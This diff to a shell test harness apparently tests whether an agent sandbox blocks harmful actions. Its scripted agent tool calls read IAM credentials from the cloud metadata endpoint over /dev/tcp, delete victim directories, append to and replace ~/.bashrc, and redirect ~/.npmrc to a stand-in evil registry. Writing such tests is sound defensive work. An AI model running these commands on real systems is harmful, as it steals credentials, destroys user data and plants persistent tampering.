@@ -153,7 +153,7 @@ EOF
  {"shell": "exec 3<>/dev/tcp/${META_ADDR%:*}/${META_ADDR#*:} && printf 'GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\\\\r\\\\n\\\\r\\\\n' >&3 && cat <&3"},
  {"shell": "rm -r ~/victim"},
  {"shell": "rm -r $VICTIM_TMP"},
- {"shell": "echo 'echo hijacked' >> ~/.bashrc; echo '[core]' > ~/.gitconfig.new && mv ~/.gitconfig.new ~/.gitconfig; rm ~/.profile; echo registry=http://$EVIL_ADDR/ >> ~/.npmrc"},
+ {"shell": "echo 'echo hijacked' >> ~/.bashrc; echo 'echo hijacked' > ~/.bashrc.new; mv ~/.bashrc.new ~/.bashrc; echo '[core]' > ~/.gitconfig.new && mv ~/.gitconfig.new ~/.gitconfig; rm ~/.profile; echo registry=http://$EVIL_ADDR/ >> ~/.npmrc"},
  {"text": "done"}]
 EOF
 }
@@ -219,17 +219,20 @@ ag_harm_checks() {
 		"$mode: the cloud metadata endpoint answers"
 	$no "$(ls "$AG_HOME")" "^victim$" "$mode: rm -r ~/victim deletes it"
 	$no "$(ls -d "$VICTIM_TMP" 2>/dev/null)" "victim" "$mode: rm -r of a directory in /tmp deletes it"
-	local dot want="bashrc gitconfig npmrc profile-gone "
+	local dot want="bashrc bashrc-replaced gitconfig npmrc profile-gone "
 	[ "$mode" = sevorix ] && want=""
 	dot=$( { grep -qs hijacked "$AG_HOME/.bashrc" && echo bashrc
+		grep -qs 'of the test user' "$AG_HOME/.bashrc" || echo bashrc-replaced
 		[ -e "$AG_HOME/.gitconfig" ] && echo gitconfig
 		grep -qs registry "$AG_HOME/.npmrc" && echo npmrc
 		[ -e "$AG_HOME/.profile" ] || echo profile-gone; } | tr '\n' ' ')
-	is "$dot" "$want" "$mode: ~/.bashrc, ~/.gitconfig, ~/.npmrc changed and ~/.profile deleted"
+	is "$dot" "$want" \
+		"$mode: ~/.bashrc appended to and renamed over, ~/.gitconfig and ~/.npmrc created, ~/.profile deleted"
 }
 
 ag_restore_harm() {
-	rm -rf "$AG_HOME/pwned-by-download" "$AG_HOME/.gitconfig" "$AG_HOME/.npmrc" "$AG_HOME/.gitconfig.new"
+	rm -rf "$AG_HOME/pwned-by-download" "$AG_HOME/.gitconfig" "$AG_HOME/.npmrc" \
+		"$AG_HOME/.gitconfig.new" "$AG_HOME/.bashrc.new"
 	mkdir -p "$AG_HOME/victim" "$VICTIM_TMP" && echo keep >"$AG_HOME/victim/data" &&
 		echo keep >"$VICTIM_TMP/data"
 	printf '# ~/.profile of the test user\n' >"$AG_HOME/.profile"
